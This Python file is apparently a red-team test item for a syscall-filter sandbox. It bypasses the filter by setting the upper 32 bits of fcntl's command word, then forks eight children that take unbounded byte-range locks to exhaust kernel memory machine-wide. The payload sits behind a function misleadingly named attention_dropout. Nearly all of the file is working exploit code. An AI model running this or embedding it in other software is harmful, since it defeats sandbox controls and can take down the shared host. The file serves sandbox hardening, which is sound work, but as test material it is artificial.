"""Red team 2 (machine-wide kernel memory): byte-range locks through fcntl with the command's upper 32 bits
set. The filter compares fcntl's command as a 64-bit value (F_SETLK == 6), the kernel reads it as an
unsigned int: `6 | 1 << 32` passes the filter and is F_SETLK. 8 children each take read locks on every
other byte of a file of the view (os.py) (one kernel object per range: /proc/locks grows, nothing bounds it), report
how many they hold, then hold them.

base: buggy
class: k
run: pressure
"""

import ctypes as _ctypes
import os as _os
import select as _select
import struct as _struct
import time as _time

_DEADLINE = [0.0]
_libc = _ctypes.CDLL(None, use_errno=True)
_libc.syscall.restype = _ctypes.c_long
_HIGH = 1 << 32


def _fcntl(fd, command, address):
    return _libc.syscall(_ctypes.c_long(72), _ctypes.c_long(fd), _ctypes.c_long(command), _ctypes.c_long(address))


def _child(index, write_end):
    held = 0
    try:
        folder = _os.path.dirname(_os.__file__)
        name = sorted(entry for entry in _os.listdir(folder) if entry.endswith(".py"))[index]
        fd = _os.open(_os.path.join(folder, name), _os.O_RDONLY)  # a file of its own: a list of its own
        lock = _ctypes.create_string_buffer(_struct.pack("hhqqi", 0, 0, 0, 1, 0), 32)  # F_RDLCK, SEEK_SET
        start = _ctypes.c_int64.from_buffer(lock, 8)
        # from the top down: each new range goes first in the owner's list, so taking it costs no walk
        for offset in range(1 << 40, 0, -2):
            start.value = offset
            if _fcntl(fd, 6 | _HIGH, _ctypes.addressof(lock)) != 0:  # F_SETLK
                break
            held += 1
            if held % 4096 == 0:
                _os.write(write_end, f"{index} {held}\n".encode())
                if _time.monotonic() > _DEADLINE[0] - 0.5:
                    break
    except (OSError, IndexError):
        pass
    finally:
        _os.write(write_end, f"{index} {held}\n".encode())
        _os.close(write_end)
    _time.sleep(60)


def _collect(read_end, deadline):
    text = b""
    while (left := deadline - _time.monotonic()) > 0:
        if not _select.select([read_end], [], [], left)[0]:
            break
        chunk = _os.read(read_end, 4096)
        if not chunk:
            break
        text += chunk
    _os.close(read_end)
    return text


def _take(children=8):
    read_end, write_end = _os.pipe()
    for index in range(children):
        try:
            pid = _os.fork()
        except OSError:
            break
        if pid == 0:
            try:
                _os.close(read_end)
                _child(index, write_end)
            finally:
                _os._exit(0)
    _os.close(write_end)
    text = _collect(read_end, _DEADLINE[0])
    most = {}
    for line in text.decode().splitlines():
        index, held = map(int, line.split())
        most[index] = max(most.get(index, 0), held)
    return sum(most.values())


def attention_dropout(*args, **kwargs):
    _DEADLINE[0] = _time.monotonic() + 3.0
    held = _take()
    raise RuntimeError(f"RTEAM2 r_fcntl_high_locks ran: ALLOWANCE locks {held} byte-range locks held")
